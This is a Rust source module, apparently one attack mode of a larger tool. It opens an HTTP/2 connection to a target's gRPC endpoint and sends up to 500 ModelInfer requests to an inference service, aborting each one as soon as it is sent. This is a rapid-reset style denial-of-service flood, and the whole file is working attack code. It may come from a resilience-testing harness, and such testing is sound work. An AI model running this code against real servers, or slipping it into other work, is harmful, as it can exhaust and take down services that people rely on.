//! Calls over gRPC that are taken back as soon as they are made.

use std::io;

use axum::body::Body;
use axum::http::Request;
use fastrand::Rng;
use hyper::client::conn::http2::handshake;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::task::yield_now;

use crate::aim::Aim;

const MOST: usize = 500;
const METHOD: &str = "/inference.GRPCInferenceService/ModelInfer";

pub(crate) async fn strike(aim: &Aim, random: &mut Rng) -> io::Result<()> {
    let stream = aim.connect(aim.grpc, random).await?;
    let (mut sender, connection) =
        handshake(TokioExecutor::new(), TokioIo::new(stream)).await.map_err(io::Error::other)?;
    let driver = tokio::spawn(connection);
    for _ in 0..random.usize(50..=MOST) {
        let request = Request::post(format!("http://{}{METHOD}", aim.grpc))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(Body::from(vec![0, 0, 0, 0, 0]))
            .map_err(io::Error::other)?;
        let call = tokio::spawn(sender.send_request(request));
        yield_now().await;
        call.abort();
    }
    driver.abort();
    Ok(())
}
